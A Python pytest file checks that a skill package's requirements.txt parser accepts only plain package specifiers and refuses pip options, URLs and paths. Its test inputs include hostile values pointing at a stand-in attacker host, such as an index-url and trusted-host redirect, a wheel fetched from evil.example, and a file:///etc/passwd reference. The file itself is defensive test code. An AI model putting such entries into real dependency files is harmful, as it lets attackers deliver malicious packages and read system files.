"""requirements.txt is untrusted: only requirement specifiers get through to pip."""

from __future__ import annotations

from pathlib import Path

from sagents.skills import validate_skill_dir
from sagents.skills.requirements import parse_requirements
from tests.skills.conftest import write_skill


def test_specifiers_markers_comments_and_continuations() -> None:
    text = (
        "# the packages\n"
        "pypdf>=4  # pdf\n"
        "\n"
        "PyYAML == 6.0.2\n"
        'tomli; python_version < "3.11"\n'
        "openpyxl\\\n"
        "  >=3.1\n"
    )
    requirements, problems = parse_requirements(text)
    assert problems == []
    assert requirements == (
        "pypdf>=4",
        "PyYAML==6.0.2",
        'tomli; python_version < "3.11"',
        "openpyxl>=3.1",
    )


def test_options_urls_and_paths_are_refused_by_line() -> None:
    text = (
        "good-package\n"
        "--index-url http://evil.example/simple\n"
        "-r /etc/other.txt\n"
        "--extra-index-url=http://evil.example\n"
        "evil @ https://evil.example/evil-1.0-py3-none-any.whl\n"
        "local @ file:///etc/passwd\n"
        "not a requirement !!\n"
    )
    requirements, problems = parse_requirements(text)
    assert requirements == ("good-package",)
    by_line = {p.line: p.message for p in problems}
    assert set(by_line) == {2, 3, 4, 5, 6, 7}
    assert "pip options are not allowed (--index-url)" in by_line[2]
    assert "(-r)" in by_line[3]
    assert "direct references" in by_line[5] and "direct references" in by_line[6]
    assert "not a requirement" in by_line[7]


def test_a_skill_with_a_bad_requirements_file_is_invalid(tmp_path: Path) -> None:
    folder = write_skill(tmp_path, "needs", "Needs packages.", "Body.")
    (folder / "requirements.txt").write_text("ok-package\n--trusted-host evil.example\n")
    problems = validate_skill_dir(folder)
    errors = [p for p in problems if p.is_error]
    assert [(p.file, p.message) for p in errors] == [
        (
            "requirements.txt",
            "line 2: pip options are not allowed (--trusted-host); list package requirements "
            "only (the index is the server's)",
        )
    ]
